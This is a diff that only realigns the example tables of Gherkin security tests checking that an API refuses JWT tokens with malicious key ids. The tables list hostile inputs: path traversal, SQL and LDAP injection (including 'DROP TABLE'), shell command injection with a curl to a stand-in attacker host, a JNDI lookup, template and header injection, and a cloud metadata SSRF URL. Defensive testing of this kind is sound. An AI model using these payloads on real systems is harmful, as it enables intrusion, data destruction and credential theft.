@@ -15,10 +15,10 @@ Feature: Attacks by the key's id
       And the log gives the reason "algorithm_not_allowed"
 
       Examples:
-        | path                              | algorithm | secret         |
-        | "/dev/null"                       | HS256     | the secret ""  |
-        | "../../../../../../../dev/null"   | HS256     | the secret ""  |
-        | "/proc/sys/kernel/randomize_va_space" | HS256 | the secret "2" |
+        | path                                  | algorithm | secret         |
+        | "/dev/null"                           | HS256     | the secret ""  |
+        | "../../../../../../../dev/null"       | HS256     | the secret ""  |
+        | "/proc/sys/kernel/randomize_va_space" | HS256     | the secret "2" |
 
     Scenario Outline: A token of the issuer's own key is refused that names the file <path>
       Given Mallory holds an access token
@@ -28,13 +28,13 @@ Feature: Attacks by the key's id
       And the log gives the reason "key_unknown"
 
       Examples:
-        | path                       |
-        | "/dev/null"                |
-        | "../../../etc/passwd"      |
+        | path                      |
+        | "/dev/null"               |
+        | "../../../etc/passwd"     |
         | "..\u005c..\u005cwindows" |
-        | "%2e%2e%2fetc%2fpasswd"    |
-        | "file:///etc/passwd"       |
-        | "key.pem\u0000.json"       |
+        | "%2e%2e%2fetc%2fpasswd"   |
+        | "file:///etc/passwd"      |
+        | "key.pem\u0000.json"      |
 
   @KEY-06 @must @RFC8725bis-3.10 @WSTG-SESS-10 @api
   Rule: A key id is never a query
@@ -48,12 +48,12 @@ Feature: Attacks by the key's id
       And the log gives the reason "key_unknown"
 
       Examples:
-        | query                                        |
-        | "' OR '1'='1"                                |
-        | "x' UNION SELECT 'secret'-- "                |
-        | "x'; DROP TABLE signing_keys;--"             |
-        | "\" OR \"\"=\""                              |
-        | "*)(uid=*))(\u007c(uid=*"                    |
+        | query                                                  |
+        | "' OR '1'='1"                                          |
+        | "x' UNION SELECT 'secret'-- "                          |
+        | "x'; DROP TABLE signing_keys;--"                       |
+        | "\" OR \"\"=\""                                        |
+        | "*)(uid=*))(\u007c(uid=*"                              |
         | "x' \u007c\u007c (SELECT pg_sleep(30)) \u007c\u007c '" |
 
     Scenario: A token is refused whose key id is an object that a document database would read as a query
@@ -76,14 +76,14 @@ Feature: Attacks by the key's id
       And the API fetches nothing but its issuer's key set
 
       Examples:
-        | text                                          |
-        | "key; sleep 10"                               |
-        | "$(curl https://mallory.example.test/)"       |
-        | "`id`"                                        |
-        | "{{7*7}}"                                     |
-        | "${jndi:ldap://mallory.example.test/a}"       |
-        | "<%= 7*7 %>"                                  |
-        | "key\u000d\u000aX-Injected: yes"                      |
-        | "https://mallory.example.test/jwks"           |
-        | "//mallory.example.test/jwks"                 |
-        | "http://169.254.169.254/latest/meta-data/"    |
+        | text                                       |
+        | "key; sleep 10"                            |
+        | "$(curl https://mallory.example.test/)"    |
+        | "`id`"                                     |
+        | "{{7*7}}"                                  |
+        | "${jndi:ldap://mallory.example.test/a}"    |
+        | "<%= 7*7 %>"                               |
+        | "key\u000d\u000aX-Injected: yes"           |
+        | "https://mallory.example.test/jwks"        |
+        | "//mallory.example.test/jwks"              |
+        | "http://169.254.169.254/latest/meta-data/" |
